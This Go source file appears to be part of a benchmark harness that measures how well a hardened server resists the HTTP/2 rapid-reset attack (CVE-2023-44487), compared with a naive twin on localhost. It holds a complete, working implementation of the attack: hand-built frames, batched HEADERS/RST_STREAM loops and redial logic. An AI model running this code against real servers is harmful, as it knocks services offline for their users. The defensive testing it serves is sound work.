package siege

import (
	"bufio"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"
)

// HTTP/2 rapid reset (CVE-2023-44487): the client opens a stream and
// cancels it at once, in a loop, on one connection. Each stream costs the
// server a handler start; its cancellation frees the stream slot at once,
// so MaxConcurrentStreams never bites, and the attacker pays two small
// frames per stream.
//
// The attacker writes the frames by hand (RFC 9113 §4.1 and §6, RFC 7541
// for the header block): the root module takes no HTTP/2 dependency, and
// an HTTP/2 library would refuse to misbehave this way anyway.

// HTTP/2 frame types and flags used here (RFC 9113 §6).
const (
	h2Headers   = 0x1
	h2RSTStream = 0x3
	h2Settings  = 0x4
	h2GoAway    = 0x7

	h2FlagEndStream  = 0x1
	h2FlagAck        = 0x1
	h2FlagEndHeaders = 0x4

	h2Cancel = 0x8 // RST_STREAM error code CANCEL
)

const h2Preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

// h2Frame appends one frame to b.
func h2Frame(b []byte, typ, flags byte, stream uint32, payload []byte) []byte {
	n := len(payload)
	b = append(b, byte(n>>16), byte(n>>8), byte(n), typ, flags)
	b = binary.BigEndian.AppendUint32(b, stream&0x7fffffff)
	return append(b, payload...)
}

// h2GetBlock is the HPACK header block of GET path on authority, without
// Huffman coding or dynamic table: indexed :method GET (static 2) and
// :scheme http (static 6), then :path (static name 4) and :authority
// (static name 1) as literals without indexing (RFC 7541 §6.2.2).
func h2GetBlock(path, authority string) []byte {
	b := []byte{0x82, 0x86}
	for _, f := range []struct {
		idx byte
		val string
	}{{4, path}, {1, authority}} {
		if len(f.val) > 126 {
			panic("h2GetBlock: value longer than a one-byte HPACK length")
		}
		b = append(b, f.idx, byte(len(f.val)))
		b = append(b, f.val...)
	}
	return b
}

// RapidResetStats describes a rapid-reset attack.
type RapidResetStats struct {
	Conns          int64 `json:"conns"`            // connections opened
	Streams        int64 `json:"streams"`          // HEADERS+RST_STREAM pairs written
	ClosedByServer int64 `json:"closed_by_server"` // connections the server ended (GOAWAY or close)
	GoAways        int64 `json:"goaways"`
	DialErrors     int64 `json:"dial_errors"`
}

// rapidReset runs conns attacker connections from src against addr until
// ctx ends; once limit streams were written in all, they hold their
// connections until then. A connection the server
// closes is redialled after 50 ms, as a real attacker would.
func rapidReset(ctx context.Context, addr string, src netip.Addr, conns, limit int) *RapidResetStats {
	st := &RapidResetStats{}
	var budget atomic.Int64
	budget.Store(int64(limit))
	var wg sync.WaitGroup
	for range conns {
		wg.Go(func() {
			d := net.Dialer{Timeout: time.Second}
			if src.IsValid() {
				d.LocalAddr = &net.TCPAddr{IP: src.AsSlice()}
			}
			for ctx.Err() == nil && budget.Load() > 0 {
				c, err := d.DialContext(ctx, "tcp", addr)
				switch {
				case attackOver(ctx):
					if err == nil {
						_ = c.Close()
					}
					return
				case err != nil:
					atomic.AddInt64(&st.DialErrors, 1)
				default:
					atomic.AddInt64(&st.Conns, 1)
					if byServer := resetLoop(ctx, c, addr, &budget, st); byServer {
						atomic.AddInt64(&st.ClosedByServer, 1)
					}
				}
				if !sleepCtx(ctx, 50*time.Millisecond) {
					return
				}
			}
		})
	}
	wg.Wait()
	return st
}

// resetLoop plays the attack on c until ctx ends, the budget is spent, or
// the server ends the connection (true).
func resetLoop(ctx context.Context, c net.Conn, authority string, budget *atomic.Int64, st *RapidResetStats) (closedByServer bool) {
	stop := context.AfterFunc(ctx, func() { _ = c.Close() })
	defer stop()

	// The reader drains the server's frames (its SETTINGS, window updates,
	// the answers of streams that started before the reset) so that the
	// server never blocks writing to us, and notices a GOAWAY or a close.
	serverDone := make(chan struct{})
	go func() {
		defer close(serverDone)
		r := bufio.NewReader(c)
		var hdr [9]byte
		for {
			if _, err := io.ReadFull(r, hdr[:]); err != nil {
				return
			}
			n := int(hdr[0])<<16 | int(hdr[1])<<8 | int(hdr[2])
			if hdr[3] == h2GoAway {
				atomic.AddInt64(&st.GoAways, 1)
			}
			if _, err := r.Discard(n); err != nil {
				return
			}
		}
	}()
	defer func() {
		_ = c.Close()
		<-serverDone
	}()

	out := append([]byte(h2Preface), h2Frame(nil, h2Settings, 0, 0, nil)...)
	out = h2Frame(out, h2Settings, h2FlagAck, 0, nil)
	if _, err := c.Write(out); err != nil {
		return ctx.Err() == nil
	}
	block := h2GetBlock("/accounts/alice", authority)
	cancel := binary.BigEndian.AppendUint32(nil, h2Cancel)
	const batch = 64 // pairs per write: one syscall per 64 streams
	id := uint32(1)
	for ctx.Err() == nil {
		n := min(int64(batch), budget.Add(-batch)+batch)
		if n <= 0 {
			// Budget spent: hold the connection, as an attacker would,
			// so the server works through what it was sent.
			select {
			case <-serverDone:
				return ctx.Err() == nil
			case <-ctx.Done():
				return false
			}
		}
		out = out[:0]
		for range n {
			out = h2Frame(out, h2Headers, h2FlagEndHeaders|h2FlagEndStream, id, block)
			out = h2Frame(out, h2RSTStream, 0, id, cancel)
			id += 2
		}
		if _, err := c.Write(out); err != nil {
			return ctx.Err() == nil && !errors.Is(err, net.ErrClosed)
		}
		atomic.AddInt64(&st.Streams, n)
		if id > 1<<31-2*batch {
			return false // stream IDs exhausted: a new connection
		}
		select {
		case <-serverDone:
			return ctx.Err() == nil
		default:
		}
	}
	return false
}

// newH2Client is a legitimate HTTP/2 client (cleartext, prior knowledge)
// from src: one connection, reused for every request.
func newH2Client(src netip.Addr, timeout time.Duration) *client {
	d := &net.Dialer{Timeout: timeout}
	if src.IsValid() {
		d.LocalAddr = &net.TCPAddr{IP: src.AsSlice()}
	}
	var p http.Protocols
	p.SetUnencryptedHTTP2(true)
	tr := &http.Transport{DialContext: d.DialContext, Protocols: &p, Proxy: nil}
	return &client{hc: &http.Client{Transport: tr, Timeout: timeout}, tr: tr}
}

func runHTTP2(ctx context.Context, e *env, name string) (*SideResult, error) {
	s, err := e.beginWith(name, "", "GET /accounts/alice over one HTTP/2 connection", targetConfig{naiveH2C: true})
	if err != nil {
		return nil, err
	}
	actx, cancel := context.WithTimeout(ctx, e.p.h2Phase)
	defer cancel()
	c := newH2Client(e.legitSrc, e.p.legitTimeout)
	done := make(chan []Sample, 1)
	go func() { done <- legit(actx, c, s.start, e.p.legitEvery, "GET", s.t.url+"/accounts/alice") }()
	cpu0 := cpuTime()
	st := rapidReset(actx, s.t.addr, e.attackSrcs[0], 2, e.p.h2Streams)
	<-actx.Done()
	cpu := cpuTime() - cpu0
	s.res.Legit = <-done
	c.close()
	ls := summarize(s.res.Legit, e.p.legitTimeout)
	s.res.Values["attack streams written"] = float64(st.Streams)
	s.res.Values["attacker conns closed by the server"] = float64(st.ClosedByServer)
	s.res.Values["process CPU per attack stream"] = float64(cpu.Microseconds()) / max(float64(st.Streams), 1)
	s.res.Notes = append(s.res.Notes, fmt.Sprintf("%s: %d legit requests, %d succeeded; attacker: %d connections, %d streams opened and reset, %d connections ended by the server (%d GOAWAY), process CPU %.2f s",
		name, ls.N, ls.OK, st.Conns, st.Streams, st.ClosedByServer, st.GoAways, cpu.Seconds()))
	return s.end()
}

func http2Figures(e *env, n, h *SideResult) []Figure {
	ns, hs := summarize(n.Legit, e.p.legitTimeout), summarize(h.Legit, e.p.legitTimeout)
	return []Figure{
		{Name: "legit success", Unit: "%", Naive: pct(ns.OK, ns.N), Hardened: pct(hs.OK, hs.N), Better: "higher", Ideal: 100, TieOK: true},
		{Name: "legit p50", Unit: "ms", Naive: ns.P50, Hardened: hs.P50, Better: "lower"},
		// Go's own mitigation keeps the naive twin's p99 low too, and the
		// p99 of 100 requests is one request: on a 2-core machine it
		// flips with one scheduling hiccup (37 ms naive against 54 ms
		// hardened in one full run, 41 against 3.6 in the next). The
		// hardened twin is held to a latency no user notices instead; the
		// p50, the attacker's CPU and its connections say who wins.
		{Name: "legit p99", Unit: "ms", Naive: ns.P99, Hardened: hs.P99, Better: "lower", Bound: 100, HasBound: true},
		{Name: "attacker conns closed by the server", Unit: "", Naive: n.Values["attacker conns closed by the server"], Hardened: h.Values["attacker conns closed by the server"], Better: "higher"},
	}
}

func http2Notes(e *env, n, h *SideResult) []string {
	notes := []string{
		"attack: 2 connections from 127.0.0.2, each writing HEADERS (GET /accounts/alice) then RST_STREAM (CANCEL) for stream after stream, 64 pairs per write; a connection the server ends is redialled after 50 ms",
		"legit: one HTTP/2 request every 20 ms from 127.0.0.1 over one kept-alive cleartext HTTP/2 connection (Go's client)",
		"both twins speak cleartext HTTP/2; the naive one with Go's default HTTP/2 settings (Go's own rapid-reset mitigation included)",
	}
	notes = append(notes, n.Notes...)
	notes = append(notes, h.Notes...)
	return append(notes, fmt.Sprintf("process CPU per attack stream (attacker and server together, informative): naive %.1f µs, hardened %.1f µs",
		n.Values["process CPU per attack stream"], h.Values["process CPU per attack stream"]))
}
